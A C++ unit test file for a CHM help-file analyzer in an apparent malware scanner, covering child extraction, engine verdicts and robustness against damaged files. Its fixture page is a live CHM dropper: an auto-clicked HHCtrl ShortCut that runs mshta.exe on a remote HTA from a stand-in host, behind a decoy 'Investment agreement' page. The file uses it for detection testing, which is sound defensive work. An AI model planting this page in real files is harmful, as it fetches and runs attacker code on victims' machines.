// ChmAnalyzer: help files written here (chm_test_builder.h: section 0 only, as libmspack has
// no CHM writer and LZX compression is not needed to carry pages) with an HHCtrl ShortCut page
// and a program, through the analyzer and the engine; clamav-testfiles' clam.chm (LZX
// compressed: its files, clam.exe among them, as children) and damaged copies of it.
#include "analyzers/chm/chm_analyzer.h"

#include "analyzers/chm/chm_test_builder.h"

#include <gtest/gtest.h>

#include "core/file_type.h"
#include "core/hash.h"
#include "core/testing/recording_context.h"
#include "engine/testing/scan_testing.h"

namespace lg {
namespace {

using lg::testing::RecordingContext;

const std::string kDropperPage =
    "<html><body><OBJECT id=s classid=\"clsid:adb880a6-d8ff-11cf-9377-00aa003b7a11\" width=1 "
    "height=1><PARAM name=\"Command\" value=\"ShortCut\"><PARAM name=\"Item1\" "
    "value=\",mshta.exe,https://help-cdn.example/update.hta\"></OBJECT><SCRIPT>s.Click();"
    "</SCRIPT><h1>Investment agreement</h1></body></html>";

std::string fake_program() {
  std::string pe(512, '\0');
  pe[0] = 'M';
  pe[1] = 'Z';
  pe[0x3C] = 0x40;
  pe.replace(0x40, 4, std::string("PE\0\0", 4));
  return pe;
}

TEST(ChmAnalyzer, WrittenHelpFileFilesAreChildren) {
  const std::string chm =
      chm::testing::build_chm({{"/index.htm", kDropperPage}, {"/res/update.exe", fake_program()}});
  ASSERT_EQ(identify(as_bytes(chm)), FileType::kChm);
  RecordingContext ctx;
  ChmAnalyzer a;
  ASSERT_TRUE(a.analyze(as_bytes(chm), ctx).is_ok());
  EXPECT_TRUE(ctx.anomalies.empty()) << ctx.anomalies.front();
  EXPECT_EQ(ctx.num("chm_language"), 0x409);
  ASSERT_EQ(ctx.children.size(), 2u);
  EXPECT_EQ(ctx.children[0].info.name, "/index.htm");
  EXPECT_EQ(to_string(ctx.children[0].data), kDropperPage);
  EXPECT_EQ(ctx.children[1].info.name, "/res/update.exe");
  EXPECT_EQ(to_string(ctx.children[1].data), fake_program());
}

TEST(ChmAnalyzer, ShortcutPageThroughTheEngine) {
  const std::string chm = chm::testing::build_chm({{"/index.htm", kDropperPage}});
  Report r = lg::testing::scan_bytes("Investment_Agreement.chm", chm);
  const Finding* f = lg::testing::find_symbol(r, "CHM_SHORTCUT_COMMAND");
  ASSERT_NE(f, nullptr);
  EXPECT_EQ(f->evidence.value, "mshta.exe https://help-cdn.example/update.hta");
  EXPECT_EQ(r.verdict, Verdict::kMalicious);
}

std::string clam_chm() { return lg::testing::read_file(lg::testing::kClamavDir + "clam.chm"); }

TEST(ChmAnalyzer, ClamChmFilesAreChildren) {
  const std::string chm = clam_chm();
  if (chm.empty()) GTEST_SKIP() << "clamav-testfiles not installed";
  ASSERT_EQ(identify(as_bytes(chm)), FileType::kChm);
  RecordingContext ctx;
  ChmAnalyzer a;
  ASSERT_TRUE(a.analyze(as_bytes(chm), ctx).is_ok());
  EXPECT_TRUE(ctx.anomalies.empty()) << ctx.anomalies.front();
  bool clam = false;
  for (const auto& c : ctx.children) {
    EXPECT_EQ(c.info.relation, "entry");
    EXPECT_TRUE(c.info.name.starts_with("/")) << c.info.name;
    clam |= sha256_hex(c.data) == lg::testing::kClamExeSha256;
  }
  EXPECT_TRUE(clam);
  EXPECT_EQ(ctx.num("chm_files"), static_cast<std::int64_t>(ctx.children.size()));
}

TEST(ChmAnalyzer, ClamChmThroughTheEngine) {
  const std::string chm = clam_chm();
  if (chm.empty()) GTEST_SKIP() << "clamav-testfiles not installed";
  Report r = lg::testing::scan_bytes("clam.chm", chm);
  EXPECT_TRUE(lg::testing::has_descendant(r, std::string(lg::testing::kClamExeSha256)));
  EXPECT_NE(lg::testing::find_symbol(r, "EXECUTABLE_ATTACHMENT"), nullptr);
}

TEST(ChmAnalyzer, DamagedCopiesDoNotBreak) {
  const std::string chm = clam_chm();
  if (chm.empty()) GTEST_SKIP() << "clamav-testfiles not installed";
  // Truncations and byte flips across the headers, directory and content.
  for (std::size_t cut : {std::size_t{4}, std::size_t{0x38}, std::size_t{0x60}, std::size_t{0x200},
                          chm.size() / 2, chm.size() - 1}) {
    RecordingContext ctx;
    ChmAnalyzer a;
    (void)a.analyze(as_bytes(std::string_view(chm).substr(0, cut)), ctx);
  }
  for (std::size_t at = 0; at < chm.size(); at += 97) {
    std::string bad = chm;
    bad[at] = static_cast<char>(bad[at] ^ 0x5A);
    RecordingContext ctx;
    ChmAnalyzer a;
    (void)a.analyze(as_bytes(bad), ctx);
  }
  RecordingContext ctx;
  ChmAnalyzer a;
  EXPECT_EQ(a.analyze(as_bytes(std::string("ITSF\x03\0\0\0", 8)), ctx).code(),
            ErrorCode::kMalformed);
}

}  // namespace
}  // namespace lg
